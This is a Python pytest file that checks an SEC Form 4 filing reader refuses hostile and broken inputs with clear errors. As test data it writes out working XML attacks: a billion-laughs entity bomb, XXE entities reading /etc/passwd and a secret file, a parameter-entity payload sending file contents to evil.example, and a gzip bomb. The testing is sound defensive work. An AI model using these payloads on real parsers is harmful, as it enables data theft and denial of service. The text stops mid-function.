"""Hostile and broken inputs: each one is refused with the right ReadError subclass and a message
that names the source, never a bare lxml/KeyError traceback and never a silent result.

Only files from tests/data are used, so these tests run without ../shared.
"""

from __future__ import annotations

import base64
import gzip
import io
import random
import re
import shutil
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from datetime import date, datetime
from functools import partial
from pathlib import Path

import pytest
from lxml import etree

import form4
from form4 import (
    EmptyInputError,
    Filing,
    InputTooLargeError,
    InvalidFilingError,
    MalformedSubmissionError,
    MalformedXMLError,
    ReadError,
    UnrecognizedFormatError,
    UnsafeInputError,
    read,
    read_many,
)
from form4.read import DEFAULT_MAX_BYTES, read_bytes

from .conftest import DATA

XML = DATA / "xml"
TXT = DATA / "txt"
SMALL = XML / "0000899243-21-044370.xml"  # a Form 3, 1.5 kB
FORM4 = XML / "candlechaser_form4.xml"  # a Form 4 with both tables
LARGE = XML / "0000899243-21-026830.xml"  # 26 kB
SUBMISSION = TXT / "0000842517-24-000086.txt"
SECRET = "TOP-SECRET-7f3a9c1e-do-not-leak"


def expect(cls: type[ReadError], source: str, call: Callable[[], object]) -> ReadError:
    """Run ``call``; it must raise exactly ``cls`` naming ``source``, with a reason."""
    with pytest.raises(ReadError) as info:
        call()
    error = info.value
    assert type(error) is cls, f"{type(error).__name__} instead of {cls.__name__}: {error}"
    assert_well_formed(error, source)
    return error


def assert_well_formed(error: ReadError, source: str) -> None:
    assert error.source == source
    assert source in str(error)
    assert error.reason.strip(), "empty reason"
    assert error.reason in str(error)
    if error.place is not None:
        assert error.place.strip() and error.place in str(error)


def everything(error: BaseException) -> str:
    """Every text an error carries, its chained causes included."""
    parts: list[str] = []
    seen: BaseException | None = error
    while seen is not None:
        parts += [str(seen), repr(seen), *map(str, seen.args)]
        parts += [str(getattr(seen, name, "")) for name in ("source", "reason", "place")]
        seen = seen.__cause__ or seen.__context__
    return "\n".join(parts)


def line_of(place: str | None) -> int:
    assert place is not None
    match = re.search(r"line (\d+)", place)
    assert match, f"no line number in place {place!r}"
    return int(match.group(1))


# -- entities and DTDs -------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def _with_doctype(doctype: bytes, remarks: bytes, path: Path = SMALL) -> bytes:
    """A real filing with ``doctype`` after its XML declaration and ``remarks`` in <remarks>."""
    data = path.read_bytes()
    data = re.sub(rb"<remarks>.*?</remarks>", b"<remarks>" + remarks + b"</remarks>", data, count=1)
    decl = re.match(rb"<\?xml[^>]*\?>", data)
    assert decl
    return data[: decl.end()] + b"\n" + doctype + data[decl.end() :]


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS + b"<lolz>&lol9;</lolz>",
        BILLION_LAUGHS
        + SMALL.read_bytes().split(b"?>", 1)[1].replace(b"<remarks>", b"<remarks>&lol9;"),
        BILLION_LAUGHS.split(b"\n", 1)[1] + b"<ownershipDocument>&lol9;</ownershipDocument>",
    ],
    ids=["classic", "inside-ownershipDocument", "no-xml-declaration"],
)
def test_billion_laughs_is_unsafe(data: bytes) -> None:
    error = expect(UnsafeInputError, "laughs.xml", lambda: read(data, name="laughs.xml"))
    assert "lol" * 10 not in everything(error)
    assert line_of(error.place) >= 1


def test_billion_laughs_given_as_str_and_as_path(tmp_path: Path) -> None:
    data = BILLION_LAUGHS + b"<ownershipDocument>&lol9;</ownershipDocument>"
    expect(UnsafeInputError, "<str>", lambda: read(data.decode()))
    path = tmp_path / "laughs.xml"
    path.write_bytes(data)
    expect(UnsafeInputError, str(path), lambda: read(path))


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET + "\n")
    return path


def _assert_never_leaks(error: BaseException) -> None:
    text = everything(error)
    assert SECRET not in text
    passwd = Path("/etc/passwd")
    if passwd.is_file():
        first = passwd.read_text(errors="replace").splitlines()[:1]
        assert not first or first[0] not in text


@pytest.mark.parametrize("target", ["secret", "/etc/passwd"])
def test_external_entity_xxe_is_unsafe_and_never_leaks(
    target: str, secret_file: Path, tmp_path: Path
) -> None:
    uri = secret_file.as_uri() if target == "secret" else "file:///etc/passwd"
    data = _with_doctype(
        b'<!DOCTYPE ownershipDocument [<!ENTITY xxe SYSTEM "' + uri.encode() + b'">]>', b"&xxe;"
    )
    error = expect(UnsafeInputError, "xxe.xml", lambda: read(data, name="xxe.xml"))
    _assert_never_leaks(error)
    path = tmp_path / "xxe.xml"
    path.write_bytes(data)
    errors: list[ReadError] = []
    assert list(read_many([path], on_error=errors.append)) == []
    assert [type(e) for e in errors] == [UnsafeInputError]
    _assert_never_leaks(errors[0])


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE ownershipDocument [<!ENTITY % remote SYSTEM "{uri}"> %remote;]>',
        b'<!DOCTYPE ownershipDocument [<!ENTITY % file SYSTEM "{uri}">'
        b"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://evil.example/?x=%file;'>\">"
        b"%eval; %exfil;]>",
        b'<!DOCTYPE ownershipDocument SYSTEM "{uri}">',
        b'<!DOCTYPE ownershipDocument PUBLIC "-//EVIL//DTD X//EN" "http://evil.example/x.dtd">',
    ],
    ids=["parameter-entity", "parameter-entity-exfiltration", "external-dtd", "public-dtd"],
)
def test_parameter_entities_and_external_dtds_are_unsafe(doctype: bytes, secret_file: Path) -> None:
    data = _with_doctype(doctype.replace(b"{uri}", secret_file.as_uri().encode()), b"remarks")
    error = expect(UnsafeInputError, "dtd.xml", lambda: read(data, name="dtd.xml"))
    _assert_never_leaks(error)
    assert line_of(error.place) == 2  # the DOCTYPE sits on the line after the declaration


def test_xxe_inside_an_edgar_submission_is_unsafe(secret_file: Path) -> None:
    data = SUBMISSION.read_bytes()
    doctype = b'<!DOCTYPE ownershipDocument [<!ENTITY xxe SYSTEM "' + secret_file.as_uri().encode()
    data = data.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0"?>\n' + doctype + b'">]>', 1)
    data = data.replace(b"<remarks>", b"<remarks>&xxe;", 1)
    error = expect(UnsafeInputError, "sub.txt", lambda: read(data, name="sub.txt"))
    _assert_never_leaks(error)
    # the line is the DOCTYPE's line in the whole submission, not in the embedded XML
    assert line_of(error.place) == data[: data.index(b"<!DOCTYPE")].count(b"\n") + 1


def test_xxe_hidden_in_a_base64_edgar_submission_document_is_unsafe(secret_file: Path) -> None:
    inner = _with_doctype(
        b'<!DOCTYPE ownershipDocument [<!ENTITY xxe SYSTEM "'
        + secret_file.as_uri().encode()
        + b'">]>',
        b"&xxe;",
    )
    wrapper = (
        b"<?xml version='1.0'?>\n<edgarSubmission><submissionType>3</submissionType>"
        b"<edgarDocument><documentName>doc3.xml</documentName><documentType>3</documentType>"
        b"<documentMimeBlock>" + base64.encodebytes(inner) + b"</documentMimeBlock>"
        b"</edgarDocument></edgarSubmission>"
    )
    error = expect(UnsafeInputError, "wrap.xml!doc3.xml", lambda: read(wrapper, name="wrap.xml"))
    _assert_never_leaks(error)


def test_xxe_in_utf16_is_refused_and_never_leaks(secret_file: Path) -> None:
    data = _with_doctype(
        b'<!DOCTYPE ownershipDocument [<!ENTITY xxe SYSTEM "'
        + secret_file.as_uri().encode()
        + b'">]>',
        b"&xxe;",
    ).replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    for encoded in (data.decode().encode("utf-16"), data.decode().encode("utf-16-le")):
        with pytest.raises(ReadError) as info:
            read(encoded, name="utf16.xml")
        assert_well_formed(info.value, "utf16.xml")
        _assert_never_leaks(info.value)


def test_undeclared_entity_is_malformed_xml() -> None:
    data = SMALL.read_bytes().replace(b"<remarks>", b"<remarks>&xxe;")
    error = expect(MalformedXMLError, "u.xml", lambda: read(data, name="u.xml"))
    assert "xxe" in error.reason
    assert line_of(error.place) == data[: data.index(b"&xxe;")].count(b"\n") + 1


def test_xinclude_is_never_processed(secret_file: Path) -> None:
    include = (
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="'
        + secret_file.as_uri().encode()
        + b'" parse="text"/>'
    )
    data = SMALL.read_bytes().replace(b"<remarks>", b"<remarks>" + include)
    filing = read(data, name="xi.xml")
    assert SECRET not in form4.to_json(filing)
    data = SMALL.read_bytes().replace(b"</issuer>", b"</issuer>" + include)
    filing = read(data, name="xi.xml")
    assert SECRET not in form4.to_json(filing)
    assert any("include" in w.message for w in filing.source.warnings)


def test_excessive_nesting_is_malformed_xml() -> None:
    data = b"<ownershipDocument>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</ownershipDocument>"
    error = expect(MalformedXMLError, "deep.xml", lambda: read(data, name="deep.xml"))
    assert line_of(error.place) == 1


# -- size --------------------------------------------------------------------------------------


def test_a_200_mb_file_is_too_large_without_being_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as handle:
        handle.write(SMALL.read_bytes()[:200])
        handle.truncate(200 * 1024 * 1024)  # sparse: no real disk, no real read
    error = expect(InputTooLargeError, str(path), lambda: read(path))
    assert "max_bytes" in str(error)
    assert f"{DEFAULT_MAX_BYTES:,}" in error.reason
    errors: list[ReadError] = []
    assert list(read_many([tmp_path], on_error=errors.append)) == []
    assert [type(e) for e in errors] == [InputTooLargeError]
    assert errors[0].source == str(path)


def test_bytes_str_and_path_over_an_explicit_max_bytes_are_too_large(tmp_path: Path) -> None:
    data = SMALL.read_bytes()
    limit = len(data) - 1
    for call, source in (
        (lambda: read(data, max_bytes=limit), "<bytes>"),
        (lambda: read_bytes(data, "small.xml", max_bytes=limit), "small.xml"),
        (lambda: read(data.decode(), max_bytes=limit), "<str>"),
        (lambda: read(SMALL, max_bytes=limit), str(SMALL)),
    ):
        error = expect(InputTooLargeError, source, call)
        assert "max_bytes" in error.reason
        assert f"{limit:,}" in error.reason
    assert read(data, max_bytes=len(data)).document_type == "3"


def test_gzip_bomb_is_too_large(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xml.gz"
    path.write_bytes(gzip.compress(SMALL.read_bytes()[:100] + b" " * 4_000_000))
    assert path.stat().st_size < 100_000
    error = expect(InputTooLargeError, str(path), lambda: read(path, max_bytes=1_000_000))
    assert "max_bytes" in error.reason


# -- truncation --------------------------------------------------------------------------------


def _cuts(data: bytes) -> dict[str, int]:
    close = data.rindex(b"</ownershipDocument>")
    return {
        "10%": len(data) // 10,
        "50%": len(data) // 2,
        "90%": len(data) * 9 // 10,
        "before-closing-root-tag": close,
        "inside-closing-root-tag": close + len(b"</ownershipDoc"),
    }


@pytest.mark.parametrize("path", [LARGE, FORM4], ids=lambda p: p.name)
@pytest.mark.parametrize("cut", list(_cuts(LARGE.read_bytes())))
def test_truncated_xml_is_malformed_with_a_line(path: Path, cut: str) -> None:
    data = path.read_bytes()
    part = data[: _cuts(data)[cut]]
    error = expect(MalformedXMLError, path.name, lambda: read(part, name=path.name))
    assert 1 <= line_of(error.place) <= part.count(b"\n") + 1


def _submission_cuts(data: bytes) -> dict[str, int]:
    start, end = data.index(b"<XML>"), data.index(b"</XML>")
    return {
        "after-<XML>": start + len(b"<XML>\n"),
        "after-xml-declaration": data.index(b"?>", start) + 3,
        "middle-of-xml": (start + end) // 2,
        "before-</XML>": end,
    }


@pytest.mark.parametrize("cut", list(_submission_cuts(SUBMISSION.read_bytes())))
def test_truncated_submission_is_refused(cut: str) -> None:
    data = SUBMISSION.read_bytes()
    part = data[: _submission_cuts(data)[cut]]
    with pytest.raises(ReadError) as info:
        filing = read(part, name=SUBMISSION.name)
        pytest.fail(f"a Filing from a cut submission: {filing.source}")
    error = info.value
    assert type(error) in (MalformedXMLError, MalformedSubmissionError), repr(error)
    assert_well_formed(error, SUBMISSION.name)
    assert 1 <= line_of(error.place) <= part.count(b"\n") + 1


# -- things that are not filings at all --------------------------------------------------------

RATE_LIMIT_PAGE = b"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"
 "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="en" lang="en">
<head>
<title>SEC.gov | Request Rate Threshold Exceeded</title>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
</head>
<body>
<h1>Your Request Originates from an Undeclared Automated Tool</h1>
<p>To allow for equitable access to all users, SEC reserves the right to limit requests
originating from undeclared automated tools.</p>
</body>
</html>
"""

NOT_FOUND_PAGE = b"""<!DOCTYPE html>
<html lang="en" dir="ltr">
<head>
  <meta charset="utf-8" />
  <title>SEC.gov | File Not Found Error Alert (404)</title>
</head>
<body><h1>File Not Found</h1><p>The file you requested could not be found.</p></body>
</html>
"""

XHTML_PAGE = b"""<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title id="t">Access Denied</title></head>
<body><p>Access Denied</p></body></html>
"""


@pytest.mark.parametrize(
    ("page", "title"),
    [
        (RATE_LIMIT_PAGE, "SEC.gov | Request Rate Threshold Exceeded"),
        (NOT_FOUND_PAGE, "SEC.gov | File Not Found Error Alert (404)"),
        (XHTML_PAGE, "Access Denied"),
        (b"\xef\xbb\xbf\n\n  " + NOT_FOUND_PAGE.lower(), "sec.gov | file not found error alert"),
    ],
    ids=["rate-limit", "404", "xhtml-with-xml-declaration", "bom-blank-lines-lowercase"],
)
def test_html_error_pages_are_unrecognized_and_quote_the_title(
    page: bytes, title: str, tmp_path: Path
) -> None:
    error = expect(UnrecognizedFormatError, "page.xml", lambda: read(page, name="page.xml"))
    assert title in error.reason
    assert "HTML" in error.reason
    path = tmp_path / "0000320193-24-000001.htm"
    path.write_bytes(page)
    error = expect(UnrecognizedFormatError, str(path), lambda: read(path))
    assert title in error.reason


@pytest.mark.parametrize(
    "data", [b"", b"   \n\t\r\n  ", b"\xef\xbb\xbf", b"\xef\xbb\xbf \n"], ids=repr
)
def test_empty_and_white_space_only_inputs(data: bytes, tmp_path: Path) -> None:
    expect(EmptyInputError, "empty.xml", lambda: read(data, name="empty.xml"))
    path = tmp_path / "empty.xml"
    path.write_bytes(data)
    expect(EmptyInputError, str(path), lambda: read(path))


def _png() -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
        b"\x1f\xf3\xffa" + bytes(range(256)) * 4
    )


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (random.Random(20240501).randbytes(4096), "binary"),
        (random.Random(4).randbytes(65536), "binary"),
        (b"\x00" * 64 + SMALL.read_bytes(), "binary"),
        (b"\x00\x01\x02\x00" * 1024, "binary"),
        (_png(), "binary"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "PDF"),
        (gzip.compress(SMALL.read_bytes()), "gzip"),
        (b"Hello, this is just some text.\nNothing to see here.\n", "text"),
    ],
    ids=["random-4k", "random-64k", "leading-nuls", "nuls", "png", "pdf", "gzip", "plain-text"],
)
def test_binary_junk_is_unrecognized(data: bytes, what: str) -> None:
    error = expect(UnrecognizedFormatError, "junk.xml", lambda: read(data, name="junk.xml"))
    assert what in error.reason


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _tar(path: Path, members: dict[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


def test_a_zip_passed_to_read_points_to_read_many(tmp_path: Path) -> None:
    path = _zip(tmp_path / "filings.zip", {SMALL.name: SMALL.read_bytes()})
    error = expect(UnrecognizedFormatError, str(path), lambda: read(path))
    assert "zip" in error.reason and "read_many" in error.reason
    error = expect(UnrecognizedFormatError, "<bytes>", lambda: read(path.read_bytes()))
    assert "read_many" in error.reason


@pytest.mark.parametrize("suffix", [".tar.gz", ".tar"])
def test_a_tar_passed_to_read_points_to_read_many(suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"filings{suffix}"
    with tarfile.open(path, "w:gz" if suffix == ".tar.gz" else "w") as archive:
        archive.add(SMALL, arcname=SMALL.name)
    error = expect(UnrecognizedFormatError, str(path), lambda: read(path))
    assert "read_many" in error.reason


RSS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Latest Filings - Form 4</title>
<item><title>4 - Apple Inc. (0000320193)</title><link>https://www.sec.gov/</link></item>
</channel></rss>
"""

ATOM = b"""<?xml version="1.0" encoding="ISO-8859-1" ?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Latest Filings</title>
<entry><title>4 - ownershipDocument</title></entry></feed>
"""


@pytest.mark.parametrize(
    ("data", "root"),
    [
        (b"<foo/>", None),
        (b'<?xml version="1.0"?>\n<foo/>', "foo"),
        (RSS, "rss"),
        (ATOM, "feed"),
        (b"<?xml version='1.0'?><wrapper>" + SMALL.read_bytes()[21:] + b"</wrapper>", "wrapper"),
    ],
    ids=["foo", "foo-with-declaration", "rss", "atom", "wrapped-ownershipDocument"],
)
def test_well_formed_xml_that_is_not_an_ownership_document(data: bytes, root: str | None) -> None:
    error = expect(UnrecognizedFormatError, "feed.xml", lambda: read(data, name="feed.xml"))
    if root is not None:
        assert f"<{root}>" in error.reason


# -- well-formed ownership documents that cannot be trusted -------------------------------------


def _edit(path: Path, edit: Callable[[etree._Element], None]) -> bytes:
    root = etree.fromstring(path.read_bytes())
    edit(root)
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _remove(xpath: str) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        found = root.xpath(xpath)
        assert isinstance(found, list) and found, xpath
        for el in found:
            assert isinstance(el, etree._Element)
            parent = el.getparent()
            assert parent is not None
            parent.remove(el)

    return edit


@pytest.mark.parametrize(
    ("xpath", "place", "missing"),
    [
        ("/ownershipDocument/issuer", "/ownershipDocument", "<issuer>"),
        ("/ownershipDocument/documentType", "/ownershipDocument", "<documentType>"),
        ("/ownershipDocument/reportingOwner", "/ownershipDocument", "<reportingOwner>"),
        ("/ownershipDocument/issuer/issuerCik", "/ownershipDocument/issuer", "<issuerCik>"),
        (
            "/ownershipDocument/reportingOwner/reportingOwnerId/rptOwnerCik",
            "/ownershipDocument/reportingOwner",
            "<rptOwnerCik>",
        ),
    ],
    ids=["issuer", "documentType", "reportingOwner", "issuerCik", "rptOwnerCik"],
)
def test_missing_essentials_are_invalid_with_the_element_path(
    xpath: str, place: str, missing: str
) -> None:
    data = _edit(FORM4, _remove(xpath))
    error = expect(InvalidFilingError, FORM4.name, lambda: read(data, name=FORM4.name))
    assert error.place is not None
    assert error.place.split(" (line")[0] == place
    assert missing in error.reason


def _set(xpath: str, value: str) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        found = root.xpath(xpath)
        assert isinstance(found, list) and found, xpath
        el = found[0]
        assert isinstance(el, etree._Element)
        el.text = value

    return edit


BAD_VALUES = [
    (
        "//nonDerivativeTransaction[1]/transactionAmounts/transactionShares/value",
        "12x",
        "/ownershipDocument/nonDerivativeTable/nonDerivativeTransaction[1]"
        "/transactionAmounts/transactionShares",
    ),
    (
        "//nonDerivativeTransaction[2]/transactionAmounts/transactionPricePerShare/value",
        "$1.2.3",
        "/ownershipDocument/nonDerivativeTable/nonDerivativeTransaction[2]"
        "/transactionAmounts/transactionPricePerShare",
    ),
    (
        "//derivativeTransaction[3]/underlyingSecurity/underlyingSecurityShares/value",
        "lots",
        "/ownershipDocument/derivativeTable/derivativeTransaction[3]"
        "/underlyingSecurity/underlyingSecurityShares",
    ),
    (
        "//nonDerivativeTransaction[1]/transactionDate/value",
        "2021-13-45",
        "/ownershipDocument/nonDerivativeTable/nonDerivativeTransaction[1]/transactionDate",
    ),
    ("/ownershipDocument/periodOfReport", "yesterday", "/ownershipDocument/periodOfReport"),
    (
        "//reportingOwnerRelationship/isDirector",
        "maybe",
        "/ownershipDocument/reportingOwner/reportingOwnerRelationship/isDirector",
    ),
]


@pytest.mark.parametrize(("xpath", "value", "place"), BAD_VALUES, ids=[v for _, v, _ in BAD_VALUES])
def test_values_that_are_not_what_they_claim_are_invalid_with_the_element_path(
    xpath: str, value: str, place: str
) -> None:
    data = _edit(FORM4, _set(xpath, value))
    error = expect(InvalidFilingError, FORM4.name, lambda: read(data, name=FORM4.name))
    assert error.place is not None
    assert error.place.split(" (line")[0] == place
    assert repr(value) in error.reason
    line = line_of(error.place)  # the element's line; its <value> may sit on the next one
    assert value.encode() in b"".join(data.split(b"\n")[line - 1 : line + 1])


SHARES = "//nonDerivativeTransaction[1]/transactionAmounts/transactionShares/value"


@pytest.mark.parametrize(
    "value",
    ["\u00b2", "1.\u00b2", "\u0661\u0662\u0663", "\U0001d7cf\U0001d7d0", "1e5", "NaN", "0x10"],
)
def test_numbers_outside_the_schema_digits_are_invalid(value: str) -> None:
    # xs:decimal allows ASCII digits only; str.isdigit() and Decimal() accept far more
    data = _edit(FORM4, _set(SHARES, value))
    error = expect(InvalidFilingError, FORM4.name, lambda: read(data, name=FORM4.name))
    assert error.place is not None and "/transactionAmounts/transactionShares" in error.place
    assert repr(value) in error.reason


@pytest.mark.parametrize(
    "smuggled",
    [
        b"<ownershipNature><transactionShares><value>999</value></transactionShares>",
        b"<ownershipNature><bogus><transactionShares><value>999</value></transactionShares></bogus>",
        b"<ownershipNature><bogus><value>999</value></bogus>",
    ],
    ids=["leaf-in-wrong-group", "leaf-under-unknown-element", "value-under-unknown-element"],
)
def test_a_value_out_of_place_never_overrides_the_real_one(smuggled: bytes) -> None:
    data = FORM4.read_bytes()
    shares = read(data).non_derivative_transactions[0].shares
    assert shares is not None and shares != 999
    tampered = data.replace(b"<ownershipNature>", smuggled, 1)
    try:
        filing = read(tampered, name=FORM4.name)
    except ReadError as error:
        assert type(error) is InvalidFilingError
        assert_well_formed(error, FORM4.name)
        return
    assert filing.non_derivative_transactions[0].shares == shares
    assert any("/ownershipNature/" in w.place for w in filing.source.warnings)


def test_bad_value_inside_a_submission_reports_the_line_in_the_whole_file() -> None:
    data = SUBMISSION.read_bytes()
    data = re.sub(rb"(<transactionShares>\s*<value>)[^<]*", rb"\g<1>12x", data, count=1)
    error = expect(InvalidFilingError, "sub.txt", lambda: read(data, name="sub.txt"))
    assert error.place is not None and "transactionShares" in error.place
    line = line_of(error.place)
    assert b"<transactionShares>" in b"\n".join(data.split(b"\n")[line - 1 : line + 1])


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"PUBLIC DOCUMENT COUNT:\t\t1", b"PUBLIC DOCUMENT COUNT:\t\t\xb2"),
        (b"<SEQUENCE>1", b"<SEQUENCE>\xb9"),
    ],
    ids=["document-count", "sequence"],
)
def test_submission_header_number_in_superscript_digits(old: bytes, new: bytes) -> None:
    data = SUBMISSION.read_bytes()
    assert old in data
    data = data.replace(old, new, 1)  # latin-1 superscripts: str.isdigit() says yes, int() no
    try:
        filing = read(data, name="sub.txt")
    except ReadError as error:
        assert_well_formed(error, "sub.txt")
    else:
        assert filing == read(SUBMISSION)


# -- paths -------------------------------------------------------------------------------------


def test_nonexistent_path(tmp_path: Path) -> None:
    path = tmp_path / "nowhere" / "missing.xml"
    error = expect(ReadError, str(path), lambda: read(path))
    assert "no such file" in error.reason
    error = expect(ReadError, str(path), lambda: read(str(path)))
    assert "no such file" in error.reason


def test_path_with_a_nul_byte() -> None:
    sources: list[str | Path] = ["filings/\x00evil.xml", Path("filings/\x00evil.xml")]
    for source in sources:
        expect(ReadError, "filings/\x00evil.xml", partial(read, source))
    errors: list[ReadError] = []
    assert list(read_many(["filings/\x00evil.xml"], on_error=errors.append)) == []
    assert [type(e) for e in errors] == [ReadError]


def test_directory_passed_to_read(tmp_path: Path) -> None:
    shutil.copy(SMALL, tmp_path / SMALL.name)
    error = expect(ReadError, str(tmp_path), lambda: read(tmp_path))
    assert "directory" in error.reason and "read_many" in error.reason


# -- read_many ---------------------------------------------------------------------------------

GOOD = [SMALL, FORM4, LARGE, SUBMISSION]


def _junk() -> bytes:
    return random.Random(7).randbytes(2048)


def _truncated() -> bytes:
    data = LARGE.read_bytes()
    return data[: len(data) // 2]


@pytest.fixture
def mixed_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "filings"
    (folder / "sub").mkdir(parents=True)
    shutil.copy(GOOD[0], folder / f"1-{GOOD[0].name}")
    (folder / "2-junk.xml").write_bytes(_junk())
    shutil.copy(GOOD[1], folder / f"3-{GOOD[1].name}")
    shutil.copy(GOOD[2], folder / "sub" / GOOD[2].name)
    shutil.copy(GOOD[3], folder / "sub" / GOOD[3].name)
    (folder / "sub" / "truncated.xml").write_bytes(_truncated())
    return folder


def test_read_many_collects_errors_and_yields_every_good_filing(mixed_dir: Path) -> None:
    errors: list[ReadError] = []
    filings = list(read_many(mixed_dir, on_error=errors.append))
    assert sorted(filings, key=repr) == sorted((read(p) for p in GOOD), key=repr)
    assert [type(e) for e in errors] == [UnrecognizedFormatError, MalformedXMLError]
    assert [e.source for e in errors] == [
        str(mixed_dir / "2-junk.xml"),
        str(mixed_dir / "sub" / "truncated.xml"),
    ]
    for error in errors:
        assert_well_formed(error, error.source)


def test_read_many_without_on_error_raises_on_the_first_bad_one(mixed_dir: Path) -> None:
    seen: list[Filing] = []
    with pytest.raises(ReadError) as info:
        seen.extend(read_many(mixed_dir))
    assert type(info.value) is UnrecognizedFormatError
    assert_well_formed(info.value, str(mixed_dir / "2-junk.xml"))
    assert seen == [read(GOOD[0])]


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_archives_stream_the_same_filings_and_name_members(kind: str, tmp_path: Path) -> None:
    members = {f"filings/{p.name}": p.read_bytes() for p in GOOD}
    members["filings/junk.xml"] = _junk()
    members["filings/truncated.xml"] = _truncated()
    members["filings/README"] = b"not read: no filing suffix"
    path = tmp_path / f"filings.{kind}"
    (_zip if kind == "zip" else _tar)(path, members)
    errors: list[ReadError] = []
    filings = list(read_many(path, on_error=errors.append))
    assert filings == list(read_many(GOOD))
    assert [f.source.name for f in filings] == [f"{path}!filings/{p.name}" for p in GOOD]
    assert [type(e) for e in errors] == [UnrecognizedFormatError, MalformedXMLError]
    assert [e.source for e in errors] == [
        f"{path}!filings/junk.xml",
        f"{path}!filings/truncated.xml",
    ]
    for error in errors:
        assert_well_formed(error, error.source)
    with pytest.raises(UnrecognizedFormatError) as info:
        list(read_many(path))
    assert_well_formed(info.value, f"{path}!filings/junk.xml")


def _big_member() -> bytes:
    return SMALL.read_bytes()[:200] + b" " * 50_000


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_archive_member_over_max_bytes_is_too_large(kind: str, tmp_path: Path) -> None:
    limit = 40_000
    good = [p for p in GOOD if p.stat().st_size < limit]
    members = {p.name: p.read_bytes() for p in good}
    members["big.xml"] = _big_member()
    path = tmp_path / f"filings.{kind}"
    (_zip if kind == "zip" else _tar)(path, members)
    errors: list[ReadError] = []
    filings = list(read_many(path, on_error=errors.append, max_bytes=limit))
    assert filings == [read(p) for p in good]
    assert [type(e) for e in errors] == [InputTooLargeError]
    assert_well_formed(errors[0], f"{path}!big.xml")


@pytest.mark.parametrize("kind", ["file", "zip", "tar.gz"])
def test_too_large_messages_state_the_limit(kind: str, tmp_path: Path) -> None:
    limit = 40_000
    if kind == "file":
        path = tmp_path / "big.xml"
        path.write_bytes(_big_member())
    else:
        path = tmp_path / f"filings.{kind}"
        (_zip if kind == "zip" else _tar)(path, {"big.xml": _big_member()})
    errors: list[ReadError] = []
    assert list(read_many(path, on_error=errors.append, max_bytes=limit)) == []
    assert [type(e) for e in errors] == [InputTooLargeError]
    assert f"{limit:,}" in errors[0].reason and "max_bytes" in errors[0].reason


def _first_member_headers(data: bytes | bytearray) -> tuple[int, int]:
    """Offsets of the local and the central header of a zip's first member."""
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    assert local == 0 and central > local
    return local, central


def _broken_zip(path: Path, how: str) -> Path:
    """A zip whose first member (of three) cannot be extracted, the others fine."""
    members = {p.name: p.read_bytes() for p in (SMALL, FORM4, LARGE)}
    data = bytearray(_zip(path, members).read_bytes())
    local, central = _first_member_headers(data)
    if how == "corrupt-deflate-data":
        data[local + 30 + len(SMALL.name)] = 0xFF  # a deflate block of the reserved type 3
    elif how == "encrypted":
        data[local + 6] |= 1
        data[central + 8] |= 1
    else:  # an unknown compression method
